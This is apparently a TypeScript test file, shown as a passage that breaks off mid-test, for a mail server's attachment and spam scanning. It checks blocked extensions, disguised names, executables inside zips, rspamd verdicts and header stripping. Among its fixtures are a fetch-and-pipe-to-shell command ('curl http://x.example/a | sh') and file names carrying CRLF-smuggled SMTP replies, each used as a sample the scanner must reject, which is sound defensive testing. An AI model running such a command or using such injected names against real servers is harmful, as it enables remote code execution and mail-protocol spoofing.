import assert from 'node:assert/strict';
import { loadConfig } from '../../core/config.js';
import { fakeExecutable, PDF, zipOf } from '../support/scanner.js';
import { removeHeaderFields } from '../../smtp/rules.js';
import {
  attachmentReply,
  DEFAULT_ATTACHMENT_POLICY,
  DEFAULT_BLOCKED_EXTENSIONS,
  judgeAttachment,
  judgeAttachments,
  lastExtension,
  nameVerdict,
  type AttachmentFinding,
  type AttachmentPolicy,
  type RefusalReason,
} from '../../smtp/scan/attachments.js';
import { domainScanPolicy, extensionList, strictestPolicy, type DomainScanPolicy } from '../../smtp/scan/policy.js';
import { rspamdLocalFiles, rspamdMainConf } from '../../smtp/scan/rspamd-config.js';
import { decide, removeScanHeaders, scanHeaders, settingsHeader, unscannedHeader, type RspamdResult } from '../../smtp/scan/verdict.js';

type Refusal = Extract<AttachmentFinding, { verdict: 'refuse' }>;

const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(120, 0)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://x.example/a | sh\n', 'latin1');
const P = DEFAULT_ATTACHMENT_POLICY;
const withPolicy = (p: Partial<AttachmentPolicy>): AttachmentPolicy => ({ ...P, ...p });
const refusal = (f: AttachmentFinding): Refusal => {
  assert.equal(f.verdict, 'refuse', JSON.stringify(f));
  return f as Refusal;
};

describe('smtp/scan/attachments — names', () => {
  it('takes the last extension, lower-case, ignoring trailing dots and spaces', () => {
    assert.equal(lastExtension('congvan.pdf.exe'), 'exe');
    assert.equal(lastExtension('congvan.exe. '), 'exe');
    assert.equal(lastExtension('congvan.exe...  . '), 'exe');
    assert.equal(lastExtension('CONGVAN.EXE'), 'exe');
    assert.equal(lastExtension('bao-cao.tar.gz'), 'gz');
    assert.equal(lastExtension('README'), '');
    assert.equal(lastExtension('README. '), '');
  });

  it('refuses a blocked last extension however it is dressed', () => {
    assert.deepEqual(nameVerdict('congvan.pdf.exe', P), { kind: 'extension', extension: 'exe' });
    assert.deepEqual(nameVerdict('congvan.exe. ', P), { kind: 'extension', extension: 'exe' });
    assert.deepEqual(nameVerdict('CONGVAN.EXE', P), { kind: 'extension', extension: 'exe' });
    assert.deepEqual(nameVerdict('thu-muc/chay.BAT', P), { kind: 'extension', extension: 'bat' });
    assert.deepEqual(nameVerdict('C:\\Users\\vanthu\\cai-dat.msi', P), { kind: 'extension', extension: 'msi' });
    assert.equal(nameVerdict('congvan.exe.pdf', P), undefined);
    assert.equal(nameVerdict('bao-cao.pdf', P), undefined);
    assert.equal(nameVerdict('exe', P), undefined);
  });

  it('refuses a name hiding its extension with a right-to-left override', () => {
    assert.deepEqual(nameVerdict('congvan\u202Efdp.exe', P), { kind: 'hidden-name' });
    // Even when the hidden extension would be harmless: the mark itself is the deceit.
    assert.deepEqual(nameVerdict('bao\u202Ecao.pdf', P), { kind: 'hidden-name' });
    assert.deepEqual(nameVerdict('bao\u2067cao.pdf', P), { kind: 'hidden-name' });
  });

  it('uses the policy list, not the defaults, when one is given', () => {
    const only = withPolicy({ blockedExtensions: ['docm'] });
    assert.equal(nameVerdict('cai-dat.exe', only), undefined);
    assert.deepEqual(nameVerdict('bieu-mau.DOCM', only), { kind: 'extension', extension: 'docm' });
    assert.ok(DEFAULT_BLOCKED_EXTENSIONS.every((e) => e === e.toLowerCase() && !e.startsWith('.')));
  });
});

describe('smtp/scan/attachments — content', () => {
  it('refuses a blocked name before looking at the bytes', async () => {
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.pdf.exe', content: PDF }, P), { verdict: 'refuse', file: 'congvan.pdf.exe', why: { kind: 'extension', extension: 'exe' } });
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.exe. ', content: PDF }, P), { verdict: 'refuse', file: 'congvan.exe. ', why: { kind: 'extension', extension: 'exe' } });
    assert.deepEqual(await judgeAttachment({ filename: 'congvan\u202Efdp.exe', content: PDF }, P), { verdict: 'refuse', file: 'congvan\u202Efdp.exe', why: { kind: 'hidden-name' } });
  });

  it('refuses a program whatever its name says', async () => {
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.pdf', content: fakeExecutable() }, P), { verdict: 'refuse', file: 'congvan.pdf', why: { kind: 'executable', type: 'exe' } });
    assert.deepEqual(await judgeAttachment({ filename: 'bao-cao.pdf', content: ELF }, P), { verdict: 'refuse', file: 'bao-cao.pdf', why: { kind: 'executable', type: 'elf' } });
    assert.deepEqual(await judgeAttachment({ filename: 'ghi-chu.txt', content: SCRIPT }, P), { verdict: 'refuse', file: 'ghi-chu.txt', why: { kind: 'executable', type: 'script' } });
    // Without a name the bytes still decide, under a placeholder label.
    const unnamed = refusal(await judgeAttachment({ content: fakeExecutable() }, P));
    assert.deepEqual(unnamed.why, { kind: 'executable', type: 'exe' });
    assert.match(unnamed.file, /unnamed/);
  });

  it('lets a real PDF and plain text through', async () => {
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.pdf', content: PDF }, P), { verdict: 'ok' });
    assert.deepEqual(await judgeAttachment({ filename: 'ghi-chu.txt', content: Buffer.from('Hop luc 8 gio.\n') }, P), { verdict: 'ok' });
    assert.deepEqual(await judgeAttachment({ content: PDF }, P), { verdict: 'ok' });
  });

  it('applies the size limit (552 5.3.4), and 0 means no limit', async () => {
    const limited = withPolicy({ maxAttachmentBytes: PDF.length });
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.pdf', content: PDF }, limited), { verdict: 'ok' });
    const big = Buffer.concat([PDF, Buffer.from('\n')]);
    const tooBig = refusal(await judgeAttachment({ filename: 'congvan.pdf', content: big }, limited));
    assert.deepEqual(tooBig, { verdict: 'refuse', file: 'congvan.pdf', why: { kind: 'too-big', size: big.length, max: PDF.length } });
    const reply = attachmentReply(tooBig);
    assert.equal(reply.code, 552);
    assert.match(reply.message, /^5\.3\.4 /);
    assert.ok(reply.message.includes(`${big.length}`) && reply.message.includes(`${PDF.length}`), reply.message);
    // Size is judged first: a too-big file is refused as too big even when its name is blocked too.
    assert.equal(refusal(await judgeAttachment({ filename: 'a.exe', content: big }, limited)).why.kind, 'too-big');
    const huge = Buffer.concat([PDF, Buffer.alloc(3 * 1024 * 1024, 0x20)]);
    assert.deepEqual(await judgeAttachment({ filename: 'congvan.pdf', content: huge }, withPolicy({ maxAttachmentBytes: 0 })), { verdict: 'ok' });
  });
});

describe('smtp/scan/attachments — zip archives (built with Info-ZIP)', () => {
  it('refuses a blocked name inside a zip, labelled archive/member', async () => {
    const zip = zipOf({ 'huong-dan.pdf': PDF, 'inner.exe': Buffer.from('x') });
    assert.deepEqual(await judgeAttachment({ filename: 'outer.zip', content: zip }, P), { verdict: 'refuse', file: 'outer.zip/inner.exe', why: { kind: 'extension', extension: 'exe' } });
    const inFolder = zipOf({ 'thu-muc/chay.bat': Buffer.from('echo x') });
    assert.deepEqual(await judgeAttachment({ filename: 'outer.zip', content: inFolder }, P), { verdict: 'refuse', file: 'outer.zip/thu-muc/chay.bat', why: { kind: 'extension', extension: 'bat' } });
  });

  it('refuses a program with a harmless name inside a zip, even when the zip is not named .zip', async () => {
    const zip = zipOf({ 'huong-dan.pdf': PDF, 'cai-dat.pdf': fakeExecutable() });
    assert.deepEqual(await judgeAttachment({ filename: 'ho-so.zip', content: zip }, P), { verdict: 'refuse', file: 'ho-so.zip/cai-dat.pdf', why: { kind: 'executable', type: 'exe' } });
    assert.deepEqual(await judgeAttachment({ filename: 'ho-so.pdf', content: zipOf({ 'chay.txt': ELF }) }, P), { verdict: 'refuse', file: 'ho-so.pdf/chay.txt', why: { kind: 'executable', type: 'elf' } });
  });

  it('looks into a zip inside a zip', async () => {
    const nested = zipOf({ 'trong.zip': zipOf({ 'chay.exe': Buffer.from('x') }) });
    assert.deepEqual(await judgeAttachment({ filename: 'ngoai.zip', content: nested }, P), { verdict: 'refuse', file: 'ngoai.zip/trong.zip/chay.exe', why: { kind: 'extension', extension: 'exe' } });
    const nestedContent = zipOf({ 'trong.zip': zipOf({ 'huong-dan.pdf': fakeExecutable() }) });
    assert.deepEqual(await judgeAttachment({ filename: 'ngoai.zip', content: nestedContent }, P), { verdict: 'refuse', file: 'ngoai.zip/trong.zip/huong-dan.pdf', why: { kind: 'executable', type: 'exe' } });
  });

  it('lets a clean zip through, and stops at a nesting depth it will not open', async () => {
    assert.deepEqual(await judgeAttachment({ filename: 'ho-so.zip', content: zipOf({ 'a.pdf': PDF, 'b.txt': Buffer.from('ok') }) }, P), { verdict: 'ok' });
    const three = zipOf({ 'l2.zip': zipOf({ 'l3.zip': zipOf({ 'a.pdf': PDF }) }) });
    assert.deepEqual(await judgeAttachment({ filename: 'l1.zip', content: three }, P), { verdict: 'ok' });
    const four = zipOf({ 'l2.zip': zipOf({ 'l3.zip': zipOf({ 'l4.zip': zipOf({ 'a.pdf': PDF }) }) }) });
    assert.deepEqual(await judgeAttachment({ filename: 'l1.zip', content: four }, P), { verdict: 'refuse', file: 'l1.zip/l2.zip/l3.zip/l4.zip', why: { kind: 'unreadable-archive' } });
  });

  it('files a password-protected zip in Junk by default, refuses or allows it by policy', async () => {
    const locked = zipOf({ 'bang-luong.pdf': PDF }, 'pw');
    const file = { filename: 'bang-luong.zip', content: locked };
    assert.deepEqual(await judgeAttachment(file, P), { verdict: 'junk', file: 'bang-luong.zip/bang-luong.pdf', why: 'encrypted-archive' });
    assert.deepEqual(await judgeAttachment(file, withPolicy({ encryptedArchives: 'refuse' })), { verdict: 'refuse', file: 'bang-luong.zip/bang-luong.pdf', why: { kind: 'encrypted-archive' } });
    assert.deepEqual(await judgeAttachment(file, withPolicy({ encryptedArchives: 'allow' })), { verdict: 'ok' });
    // The names of encrypted members are readable, and still judged.
    const lockedExe = zipOf({ 'chay.exe': Buffer.from('x') }, 'pw');
    assert.deepEqual(await judgeAttachment({ filename: 'a.zip', content: lockedExe }, withPolicy({ encryptedArchives: 'allow' })), { verdict: 'refuse', file: 'a.zip/chay.exe', why: { kind: 'extension', extension: 'exe' } });
  });

  it('judges every member after a nested encrypted archive: a program later in the zip is still refused', async () => {
    const zip = zipOf({ 'a.zip': zipOf({ 'a.pdf': PDF }, 'pw'), 'b.exe': Buffer.from('x') });
    const f = refusal(await judgeAttachment({ filename: 'o.zip', content: zip }, P));
    assert.equal(f.file, 'o.zip/b.exe');
    const onlyEncrypted = await judgeAttachment({ filename: 'o.zip', content: zipOf({ 'a.zip': zipOf({ 'a.pdf': PDF }, 'pw'), 'b.pdf': PDF }) }, P);
    assert.equal(onlyEncrypted.verdict, 'junk');
  });

  it('opens zips that file-type names otherwise (ODF, EPUB: a first member called mimetype)', async () => {
    for (const kind of ['application/vnd.oasis.opendocument.text', 'application/epub+zip']) {
      const zip = zipOf({ mimetype: Buffer.from(kind), 'b.pdf': fakeExecutable() });
      const f = refusal(await judgeAttachment({ filename: 'tai-lieu.odt', content: zip }, P));
      assert.equal(f.file, 'tai-lieu.odt/b.pdf', kind);
    }
  });

  it('refuses a corrupt zip as unreadable', async () => {
    const corrupt = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.from('garbage, not a zip at all '.repeat(10))]);
    assert.deepEqual(await judgeAttachment({ filename: 'ho-so.zip', content: corrupt }, P), { verdict: 'refuse', file: 'ho-so.zip', why: { kind: 'unreadable-archive' } });
    // A truncated real zip (central directory cut off) too.
    const real = zipOf({ 'a.pdf': PDF, 'b.pdf': PDF });
    assert.deepEqual(await judgeAttachment({ filename: 'cut.zip', content: real.subarray(0, real.length - 30) }, P), { verdict: 'refuse', file: 'cut.zip', why: { kind: 'unreadable-archive' } });
  });
});

describe('smtp/scan/attachments — over a message, and the reply', () => {
  it('a refusal beats an earlier Junk finding; otherwise the first Junk finding', async () => {
    const locked = { filename: 'khoa.zip', content: zipOf({ 'a.pdf': PDF }, 'pw') };
    const locked2 = { filename: 'khoa2.zip', content: zipOf({ 'b.pdf': PDF }, 'pw') };
    const pdf = { filename: 'congvan.pdf', content: PDF };
    const exe = { filename: 'phu-luc.pdf', content: fakeExecutable() };
    assert.deepEqual(await judgeAttachments([locked, pdf, exe], P), { verdict: 'refuse', file: 'phu-luc.pdf', why: { kind: 'executable', type: 'exe' } });
    assert.deepEqual(await judgeAttachments([pdf, locked2, locked], P), { verdict: 'junk', file: 'khoa2.zip/b.pdf', why: 'encrypted-archive' });
    assert.deepEqual(await judgeAttachments([pdf, pdf], P), { verdict: 'ok' });
    assert.deepEqual(await judgeAttachments([], P), { verdict: 'ok' });
  });

  it('says which file and why, in English and Vietnamese, on one line', () => {
    const reasons: [RefusalReason, number, RegExp, RegExp][] = [
      [{ kind: 'extension', extension: 'exe' }, 550, /files ending in \.exe/, /không nhận tệp có đuôi \.exe/],
      [{ kind: 'executable', type: 'elf' }, 550, /program \(elf\)/, /chương trình \(elf\)/],
      [{ kind: 'hidden-name' }, 550, /hides its real extension/, /ký tự đảo chiều/],
      [{ kind: 'too-big', size: 2000, max: 1000 }, 552, /2000 bytes, the limit is 1000/, /tệp 2000 byte, vượt giới hạn 1000 byte/],
      [{ kind: 'encrypted-archive' }, 550, /password-protected/, /mật khẩu/],
      [{ kind: 'unreadable-archive' }, 550, /cannot be read/, /tệp nén hỏng/],
    ];
    for (const [why, code, en, vi] of reasons) {
      const reply = attachmentReply({ verdict: 'refuse', file: 'ho-so.zip/cong van.exe', why });
      assert.equal(reply.code, code, why.kind);
      assert.match(reply.message, code === 552 ? /^5\.3\.4 / : /^5\.7\.1 /);
      assert.match(reply.message, /Attachment "ho-so\.zip\/cong van\.exe" refused/);
      assert.match(reply.message, /Tệp đính kèm "ho-so\.zip\/cong van\.exe" bị từ chối/);
      assert.match(reply.message, en, why.kind);
      assert.match(reply.message, vi, why.kind);
    }
  });

  it('never puts a CR or LF from the file name into the reply', () => {
    const reply = attachmentReply({ verdict: 'refuse', file: 'a.exe\r\n250 OK\rx\ny', why: { kind: 'extension', extension: 'exe' } });
    assert.doesNotMatch(reply.message, /[\r\n]/);
    assert.ok(reply.message.includes('a.exe  250 OK x y'), reply.message);
    const long = attachmentReply({ verdict: 'refuse', file: `${'x'.repeat(500)}.exe`, why: { kind: 'extension', extension: 'exe' } });
    assert.ok(!long.message.includes('x'.repeat(121)), 'file name clipped');
  });
});

const T = { reject: 15, junk: 6 };
const base = (r: Partial<RspamdResult>): RspamdResult => ({ action: 'no action', score: 1.2, required_score: 15, symbols: {}, ...r });

describe('smtp/scan/verdict — decide', () => {
  it('refuses a virus with 554, naming it, whatever the score and action', () => {
    const d = decide(base({ action: 'no action', score: 0, symbols: { CLAM_VIRUS: { name: 'CLAM_VIRUS', score: 0, options: ['Eicar-Signature'] } } }), T);
    assert.equal(d.kind, 'refuse');
    if (d.kind !== 'refuse') return;
    assert.equal(d.category, 'virus');
    assert.equal(d.reason, 'Eicar-Signature');
    assert.equal(d.reply.code, 554);
    assert.match(d.reply.message, /^5\.7\.1 Virus found: Eicar-Signature \/ Thư chứa mã độc: Eicar-Signature$/);
    const noOptions = decide(base({ action: 'reject', symbols: { X: { name: 'CLAM_VIRUS', score: 20 } } }), T);
    assert.equal(noOptions.kind === 'refuse' && noOptions.category, 'virus');
    assert.equal(noOptions.kind === 'refuse' && noOptions.reason, 'CLAM_VIRUS');
  });

  it('does not take a failed antivirus check for a virus', () => {
    const d = decide(base({ symbols: { CLAM_VIRUS_FAIL: { name: 'CLAM_VIRUS_FAIL', score: 0, options: ['failed to scan'] } } }), T);
    assert.equal(d.kind, 'deliver');
  });

  it('refuses spam with 550 and rspamd\'s own message, cleaned of line breaks', () => {
    const d = decide(base({ action: 'reject', score: 22.5, messages: { smtp_message: 'Spam message rejected\r\n250 OK' } }), T);
    assert.equal(d.kind, 'refuse');
    if (d.kind !== 'refuse') return;
    assert.equal(d.category, 'spam');
    assert.equal(d.reply.code, 550);
    assert.match(d.reply.message, /^5\.7\.1 /);
    assert.ok(d.reply.message.includes('Spam message rejected'), d.reply.message);
    assert.doesNotMatch(d.reply.message, /[\r\n]/);
    assert.match(d.reply.message, /thư rác/);
    const noMessage = decide(base({ action: 'reject', score: 22.5 }), T);
    assert.ok(noMessage.kind === 'refuse' && noMessage.reply.message.includes('score 22.50 ≥ 15'), JSON.stringify(noMessage));
  });

  it('answers soft reject and greylist with 451', () => {
    for (const action of ['soft reject', 'greylist']) {
      const d = decide(base({ action }), T);
      assert.equal(d.kind, 'tempfail', action);
      if (d.kind !== 'tempfail') return;
      assert.equal(d.reply.code, 451);
      assert.match(d.reply.message, /^4\.7\.1 /);
      assert.equal(d.reason, action);
    }
  });

  it('delivers "add header" to Junk with X-Spam: Yes', () => {
    const d = decide(base({ action: 'add header', score: 7.5, symbols: { MISSING_MID: { name: 'MISSING_MID', score: 2.5 } } }), T);
    assert.equal(d.kind, 'deliver');
    if (d.kind !== 'deliver') return;
    assert.equal(d.junk, 'spam score=7.50');
    assert.match(d.headers, /^X-Spam: Yes\r$/m);
    assert.match(d.headers, /^X-Spam-Status: Yes, score=7\.50 required=15\.00 action=add_header scanner=rspamd\r$/m);
    assert.match(d.headers, /^X-Spamd-Result: default: True \[7\.50 \/ 15\.00\]; MISSING_MID\(2\.50\)\r$/m);
    const rewrite = decide(base({ action: 'rewrite subject', score: 9 }), T);
    assert.deepEqual(rewrite.kind === 'deliver' && [rewrite.junk, /^X-Spam: Yes\r$/m.test(rewrite.headers)], ['spam score=9.00', true]);
  });

  it('delivers "no action" with no Junk mark and X-Spam-Status: No', () => {
    const d = decide(base({ action: 'no action', score: 1.2 }), T);
    assert.equal(d.kind, 'deliver');
    if (d.kind !== 'deliver') return;
    assert.equal(d.junk, undefined);
    assert.ok(!('junk' in d));
    assert.match(d.headers, /^X-Spam-Status: No, score=1\.20 required=15\.00 action=no_action scanner=rspamd\r$/m);
    assert.doesNotMatch(d.headers, /^X-Spam:/m);
    assert.match(d.headers, /^X-Spamd-Result: default: False /m);
  });
});

describe('smtp/scan/verdict — headers', () => {
  const many: RspamdResult = {
    action: 'add header',
    score: 16.2,
    required_score: 15,
    symbols: Object.fromEntries(
      [
        ['MIME_GOOD', -0.1, ['text/plain']],
        ['MISSING_MID', 2.5],
        ['MISSING_DATE', 1],
        ['R_DKIM_NA', 0],
        ['ARC_NA', 0],
        ['FROM_EQ_ENVFROM', 0],
        ['RCVD_COUNT_ZERO', 0, ['0']],
        ['TO_DN_NONE', 0],
        ['RCPT_COUNT_ONE', 0, ['1']],
        ['ASN', 0, ['asn:64500, ipnet:192.0.2.0/24; country:ZZ']],
        ['BAYES_SPAM', 5.1, ['99.99%']],
        ['HFILTER_HOSTNAME_UNKNOWN', 2.5],
        ['R_SPF_NA', 0, ['no SPF record']],
        ['DMARC_NA', 0, ['ngoai.example']],
      ].map(([name, score, options]) => [name, { name: name as string, score: score as number, ...(options ? { options: options as string[] } : {}) }]),
    ),
  };

  it('folds X-Spamd-Result at 78 columns with tab continuations, ending in CRLF', () => {
    const h = scanHeaders(many, true);
    assert.ok(h.endsWith('\r\n'));
    assert.doesNotMatch(h.replace(/\r\n/g, ''), /[\r\n]/, 'only CRLF line endings');
    const lines = h.slice(0, -2).split('\r\n');
    assert.ok(lines.length > 4, 'folded');
    for (const line of lines) {
      assert.ok(line.length <= 80, `${line.length}: ${line}`);
      assert.ok(/^(X-Spam-Status|X-Spamd-Result|X-Spam): /.test(line) || line.startsWith('\t'), line);
    }
    // Every symbol appears once, highest absolute score first, options without spaces or semicolons.
    for (const name of Object.keys(many.symbols!)) assert.equal(h.match(new RegExp(`[\\s;]${name}\\(`, 'g'))?.length, 1, name);
    assert.ok(h.indexOf('BAYES_SPAM(5.10)[99.99%]') < h.indexOf('HFILTER_HOSTNAME_UNKNOWN(2.50)'));
    assert.ok(h.indexOf('HFILTER_HOSTNAME_UNKNOWN(2.50)') < h.indexOf('MISSING_MID(2.50)'), 'equal scores by name');
    assert.ok(h.indexOf('MISSING_DATE(1.00)') < h.indexOf('MIME_GOOD(-0.10)[text/plain]'));
    assert.ok(h.includes('ASN(0.00)[asn:64500,_ipnet:192.0.2.0/24__country:Z]'), `options cut at 40 characters: ${h}`);
    assert.ok(h.includes('R_SPF_NA(0.00)[no_SPF_record]'), h);
    assert.match(h, /\r\nX-Spam: Yes\r\n$/);
  });

  it('writes rspamd\'s Settings with our thresholds and no greylisting', () => {
    const s = JSON.parse(settingsHeader({ reject: 12, junk: 4.5 }));
    assert.deepEqual(s, { actions: { reject: 12, 'add header': 4.5, 'rewrite subject': null, greylist: null } });
  });

  it('writes an unscanned mark as one clean header line', () => {
    const h = unscannedHeader('connect ECONNREFUSED 127.0.0.1:11333; again\r\nX-Spam: No');
    assert.match(h, /^X-Spam-Status: Unscanned, reason=\S+ scanner=rspamd\r\n$/);
    assert.ok(h.includes('reason=connect_ECONNREFUSED_127.0.0.1:11333__again__X-Spam:_No '), h);
  });
});

describe('smtp/scan/verdict — removeScanHeaders', () => {
  const body = Buffer.concat([
    Buffer.from('X-Spam: Yes (in the body, kept)\r\n\r\nX-Spamd-Result: body\r\n\tcontinued\r\n', 'latin1'),
    Buffer.from([0x00, 0x80, 0xc3, 0xa1, 0xff, 0x0d, 0x0a]),
  ]);

  it('drops forged scan headers with their continuation lines and keeps the rest byte for byte', () => {
    const head = Buffer.concat([
      Buffer.from('Received: from mail.ngoai.example\r\n\tby mx.tinh.gov.vn; Mon, 1 Jan 2026 08:00:00 +0700\r\n'),
      Buffer.from('X-Spam: No\r\n'),
      Buffer.from('Subject: =?UTF-8?Q?Th=C6=B0?=\r\n =?UTF-8?Q?_m=E1=BB=9Di?=\r\n'),
      Buffer.from('X-Spamd-Result: default: False [-5.00 / 15.00];\r\n\tWHITELIST(-5.00);\r\n\tR_DKIM_ALLOW(0.00)\r\n'),
      Buffer.from('X-Spammer-Note: not ours, kept\r\n'),
      Buffer.from('x-spam-status: No, score=-5\r\n'),
      Buffer.from('From: '),
      Buffer.from('Nguyễn Văn A <a@ngoai.example>\r\n', 'utf8'),
      Buffer.from('X-Rspamd-Queue-Id: 0123abcd\r\n'),
      Buffer.from('X-Virus-Scanned: clean\r\n'),
    ]);
    const message = Buffer.concat([head, Buffer.from('\r\n'), body]);
    const out = removeScanHeaders(message);
    const expected = Buffer.concat([
      Buffer.from('Received: from mail.ngoai.example\r\n\tby mx.tinh.gov.vn; Mon, 1 Jan 2026 08:00:00 +0700\r\n'),
      Buffer.from('Subject: =?UTF-8?Q?Th=C6=B0?=\r\n =?UTF-8?Q?_m=E1=BB=9Di?=\r\n'),
      Buffer.from('X-Spammer-Note: not ours, kept\r\n'),
      Buffer.from('From: '),
      Buffer.from('Nguyễn Văn A <a@ngoai.example>\r\n', 'utf8'),
      Buffer.from('\r\n'),
      body,
    ]);
    assert.equal(out.toString('latin1'), expected.toString('latin1'));
    assert.ok(out.equals(expected));
  });

  it('returns the very same Buffer when there is nothing to remove', () => {
    const message = Buffer.concat([Buffer.from('From: <a@ngoai.example>\r\nSubject: x\r\n\tfolded\r\n\r\n'), body]);
    assert.equal(removeScanHeaders(message), message);
    const headOnly = Buffer.from('From: <a@ngoai.example>\r\n');
    assert.equal(removeScanHeaders(headOnly), headOnly);
  });

  it('handles a message that is all head, and a scan header first', () => {
    assert.equal(removeScanHeaders(Buffer.from('X-Spam: Yes\r\nFrom: <a@x>\r\n')).toString(), 'From: <a@x>\r\n');
    assert.equal(removeScanHeaders(Buffer.from('X-Spam-Status: Yes\r\n\tmore\r\nFrom: <a@x>\r\n\r\nbody')).toString(), 'From: <a@x>\r\n\r\nbody');
  });
});

describe('smtp/rules — removeHeaderFields', () => {
  it('takes a message that starts with an empty line as all body', () => {
    const m = Buffer.from('\r\nX-Spam: Yes\r\n\r\nmore');
    assert.equal(removeScanHeaders(m), m);
  });

  it('gives the predicate lower-case names and raw values with continuations, and drops what it says', () => {
    const seen: [string, string][] = [];
    const message = Buffer.from('DKIM-Signature: v=1; d=ngoai.example;\r\n\tb=abc\r\nFrom: <a@ngoai.example>\r\nSubject : spaced\r\n\r\nDKIM-Signature: in body\r\n');
    const out = removeHeaderFields(message, (name, value) => {
      seen.push([name, value]);
      return name === 'dkim-signature' || name === 'subject';
    });
    assert.deepEqual(seen, [
      ['dkim-signature', ' v=1; d=ngoai.example;\r\n\tb=abc'],
      ['from', ' <a@ngoai.example>'],
      ['subject', ' spaced'],
    ]);
    assert.equal(out.toString(), 'From: <a@ngoai.example>\r\n\r\nDKIM-Signature: in body\r\n');
  });

  it('never drops a line that is not a header field, and keeps the message object when nothing goes', () => {
    const message = Buffer.from('From: <a@x>\r\nnot a header\r\nBad Name: x\r\n: empty name\r\n\r\nbody');
    const names: string[] = [];
    const out = removeHeaderFields(message, (name) => {
      names.push(name);
      return true;
    });
    assert.deepEqual(names, ['from']);
    assert.equal(out.toString(), 'not a header\r\nBad Name: x\r\n: empty name\r\n\r\nbody');
    assert.equal(removeHeaderFields(message, () => false), message);
  });
});

describe('smtp/scan/policy', () => {
  const config = loadConfig(
    {
      dataDir: '/tmp/x',
      scanDomains: {
        'nghiemngat.gov.vn': { spamJunkScore: 1, spamRejectScore: 8, blockedExtensions: 'exe, .ZIP ,docm', maxAttachmentSize: '10M', encryptedArchives: 'refuse' },
        'thoang.gov.vn': { spamJunkScore: 9, encryptedArchives: 'allow', maxAttachmentSize: '0' },
        'gioihan.gov.vn': { maxAttachmentSize: '512K' },
      },
    },
    {},
  );

  it('takes a domain\'s overrides, case-insensitively, and the defaults elsewhere', () => {
    assert.deepEqual(domainScanPolicy(config, 'NghiemNgat.GOV.vn'), {
      thresholds: { reject: 8, junk: 1 },
      attachments: { blockedExtensions: ['exe', 'zip', 'docm'], maxAttachmentBytes: 10 * 1024 * 1024, encryptedArchives: 'refuse' },
    });
    assert.deepEqual(domainScanPolicy(config, 'khac.gov.vn'), {
      thresholds: { reject: 15, junk: 6 },
      attachments: { blockedExtensions: DEFAULT_BLOCKED_EXTENSIONS, maxAttachmentBytes: 0, encryptedArchives: 'junk' },
    });
    // Only what a domain names is overridden.
    assert.deepEqual(domainScanPolicy(config, 'thoang.gov.vn'), {
      thresholds: { reject: 15, junk: 9 },
      attachments: { blockedExtensions: DEFAULT_BLOCKED_EXTENSIONS, maxAttachmentBytes: 0, encryptedArchives: 'allow' },
    });
  });

  it('uses the site-wide settings under the domain overrides', () => {
    const site = loadConfig({ dataDir: '/tmp/x', blockedExtensions: 'exe,js', maxAttachmentSize: '2M', spamJunkScore: 4, scanDomains: { 'a.gov.vn': { maxAttachmentSize: '0' } } }, {});
    assert.deepEqual(domainScanPolicy(site, 'b.gov.vn').attachments, { blockedExtensions: ['exe', 'js'], maxAttachmentBytes: 2 * 1024 * 1024, encryptedArchives: 'junk' });
    assert.equal(domainScanPolicy(site, 'b.gov.vn').thresholds.junk, 4);
    assert.equal(domainScanPolicy(site, 'a.gov.vn').attachments.maxAttachmentBytes, 0);
  });

  it('takes the strictest of several domains', () => {
    const [strict, loose, sized, other] = ['nghiemngat.gov.vn', 'thoang.gov.vn', 'gioihan.gov.vn', 'khac.gov.vn'].map((d) => domainScanPolicy(config, d)) as [DomainScanPolicy, DomainScanPolicy, DomainScanPolicy, DomainScanPolicy];
    const all = strictestPolicy([loose, strict, sized], other);
    assert.deepEqual(all.thresholds, { reject: 8, junk: 1 });
    assert.equal(all.attachments.maxAttachmentBytes, 512 * 1024, 'smallest non-zero limit');
    assert.equal(all.attachments.encryptedArchives, 'refuse');
    assert.deepEqual([...all.attachments.blockedExtensions].sort(), [...new Set([...DEFAULT_BLOCKED_EXTENSIONS, 'zip', 'docm'])].sort());
    assert.equal(new Set(all.attachments.blockedExtensions).size, all.attachments.blockedExtensions.length, 'no duplicates');

    const twoLoose = strictestPolicy([loose, other], strict);
    assert.equal(twoLoose.attachments.encryptedArchives, 'junk');
    assert.equal(twoLoose.attachments.maxAttachmentBytes, 0, 'no limit when none has one');
    assert.deepEqual(twoLoose.thresholds, { reject: 15, junk: 6 });
    assert.equal(strictestPolicy([loose], other).attachments.encryptedArchives, 'allow');
    assert.equal(strictestPolicy([], other), other);
  });

  it('reads an extension list leniently', () => {
    assert.deepEqual(extensionList(' .EXE, scr,, .Js ,'), ['exe', 'scr', 'js']);
    assert.deepEqual(extensionList(''), []);
  });
});

describe('smtp/scan/rspamd-config', () => {
  const hash = '$2$8hn4c88rmafsueo4h3yckiopwjwgs31m$1ss1ag3hm7cfgsb1ywsp6tc9tonyzqm3yie5unbd8bgpwouiqc3y';

  it('binds both workers to loopback on the given ports, with the password hash', () => {
    const conf = rspamdMainConf({ scanPort: 21333, controllerPort: 21334, passwordHash: hash });
    assert.ok(conf.includes('bind_socket = "127.0.0.1:21333";'), conf);
    assert.ok(conf.includes('bind_socket = "127.0.0.1:21334";'), conf);
    assert.equal(conf.match(/bind_socket = /g)?.length, 2);
    assert.ok(conf.includes(`password = "${hash}";`));
    assert.ok(conf.includes(`enable_password = "${hash}";`));
    assert.doesNotMatch(conf, /0\.0\.0\.0|\*:|\[::\]/);
    assert.doesNotMatch(conf, /count = \d+;\n {2}\.include "\$CONFDIR\/worker-normal/);
    assert.match(rspamdMainConf({ scanPort: 1, controllerPort: 2, passwordHash: hash, workers: 3 }), /worker "normal" \{[^}]*count = 3;[^}]*\}/);
    assert.doesNotMatch(rspamdMainConf({ scanPort: 1, controllerPort: 2, passwordHash: hash }), /worker "normal" \{[^}]*count = /);
  });

  it('writes antivirus.conf only with a clamd, Bayes in SQLite, and our resolvers when given', () => {
    const plain = rspamdLocalFiles({ scanPort: 1, controllerPort: 2, passwordHash: hash });
    assert.equal(plain['antivirus.conf'], undefined);
    assert.match(plain['classifier-bayes.conf']!, /^backend = "sqlite3";$/m);
    assert.doesNotMatch(plain['classifier-bayes.conf']!, /redis/i);
    assert.doesNotMatch(plain['options.inc']!, /nameserver/);
